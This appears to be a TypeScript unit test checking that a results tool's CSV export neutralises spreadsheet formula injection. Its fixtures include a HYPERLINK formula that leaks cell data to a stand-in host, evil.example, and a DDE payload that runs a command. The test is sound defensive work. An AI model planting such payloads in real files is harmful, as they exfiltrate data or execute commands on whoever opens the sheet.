import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvField } from '@cellsweep/core';
import type { SweepRecord, TrialRecord } from '@cellsweep/store';
import { renderResults } from './results.js';

// Issue 14, defect 17: `results --format csv` kept `=HYPERLINK(…)` and `@SUM(…)` as they were, while the dashboard's
// export defused them. Both now go through @cellsweep/core's one CSV writer.

const at = new Date('2026-11-27T10:00:00.000Z');
const HOSTILE_ERROR = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const HOSTILE_BACKEND = '@SUM(1+1)*cmd|" /C calc"!A0';

const trial: TrialRecord = {
  id: 't0',
  sweepId: 's',
  configKey: 'k0',
  ordinal: 0,
  cell: '+lstm',
  hidden: 8,
  layers: 1,
  paramBudget: 500,
  paramCount: 480,
  seed: 0,
  config: {},
  status: 'FAILED',
  attempt: 1,
  backend: HOSTILE_BACKEND,
  kernels: null,
  error: HOSTILE_ERROR,
  startedAt: at,
  finishedAt: at,
  wallTimeMs: 1_000,
  epochsRun: 2,
  bestEpoch: 2,
  trainLoss: -0.3,
  valLoss: 0.4,
  testLoss: 0.45,
  generalizationGap: -0.15,
  metricName: '-metric',
  trainMetric: null,
  valMetric: 0.8,
  testMetric: 0.9,
  testMetrics: null,
  initialGradientReach: null,
  gradientReach: null,
  initialGradientSlope: null,
  gradientSlope: null,
  createdAt: at,
  updatedAt: at,
};
const sweep = { id: 's', name: 'hostile', status: 'FAILED', createdAt: at, finishedAt: at } as SweepRecord;

test('results --format csv defuses every formula-leading cell, the way the dashboard export does', () => {
  const [header, row, extra] = renderResults(sweep, [trial], 'csv').split('\n');
  assert.equal(extra, undefined, 'one line per trial, no trailing newline');
  assert.match(header ?? '', /^trial_id,ordinal,cell,/);
  const line = row ?? '';
  for (const hostile of [HOSTILE_ERROR, HOSTILE_BACKEND, '+lstm', '-metric']) {
    assert.ok(line.includes(csvField(hostile)), `${hostile} is written as ${csvField(hostile)}`);
    assert.ok(csvField(hostile).startsWith("'") || csvField(hostile).startsWith(`"'`), hostile);
  }
  // A cell never starts with a formula character once quotes are removed.
  assert.doesNotMatch(line, /(^|,)"?[=+@]/);
  assert.match(line, /,-0\.3,0\.4,0\.45,-0\.15,/, 'negative numbers stay numbers');
});
